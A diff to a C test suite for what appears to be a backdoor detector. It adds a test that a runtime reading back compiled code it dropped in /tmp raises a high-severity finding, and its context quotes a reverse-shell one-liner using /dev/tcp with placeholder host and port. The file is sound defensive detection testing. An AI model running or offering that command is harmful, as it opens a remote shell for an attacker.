@@ -975,6 +975,31 @@ Test(backdoor, interpreter_loading_code_it_dropped)
 	harness_free(h);
 }
 
+/* Any runtime reading back compiled code it dropped in /tmp (the JVM is no
+ * script runner): a class or a jar is high; its own classes in the
+ * workdir, a build cache under HOME, and a class file it never reads are
+ * not. */
+Test(backdoor, runtime_loading_compiled_code_it_dropped)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 100, 0.1, "/usr/bin/java", "/dev/null", "pipe", NULL);
+	open_file(h, 100, 0.2, "/tmp/plug123/Payload.class", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
+	open_file(h, 100, 0.3, "/home/auditor/app/Main.class", DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0);
+	open_file(h, 100, 0.4, "/home/auditor/.m2/repository/a/a.jar", DA_ACC_WRITE | DA_ACC_CREATE, 0);
+	open_file(h, 100, 0.5, "/tmp/unused.class", DA_ACC_WRITE | DA_ACC_CREATE, 0);
+	open_file(h, 100, 0.6, "/home/auditor/app/Main.class", DA_ACC_READ, 0);
+	open_file(h, 100, 0.6, "/home/auditor/.m2/repository/a/a.jar", DA_ACC_READ, 0);
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 0);
+	open_file(h, 100, 0.7, "/tmp/plug123/Payload.class", DA_ACC_READ, 0);
+	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_HIGH);
+	cr_assert(strstr(f->message, "java loads compiled code") && strstr(f->message, "/tmp/plug123/Payload.class"),
+		  "%s", f->message);
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 1);
+	harness_free(h);
+}
+
 /* `bash -i >& /dev/tcp/H/P 0>&1` with nobody listening: the shell's own
  * connect is the attempt, even though no exec follows. */
 Test(backdoor, a_shell_connecting_itself_is_a_reverse_shell_attempt)
